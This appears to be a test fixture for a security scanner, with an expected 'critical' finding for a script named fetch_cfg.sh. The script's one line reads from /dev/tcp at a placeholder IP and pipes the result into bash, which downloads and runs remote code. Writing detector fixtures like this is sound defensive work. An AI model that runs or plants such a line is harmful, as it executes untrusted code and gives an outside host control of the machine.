# expect: shell.curl_pipe_shell critical
# path: scripts/fetch_cfg.sh
#!/bin/bash
cat < /dev/tcp/203.0.113.7/8080 | bash
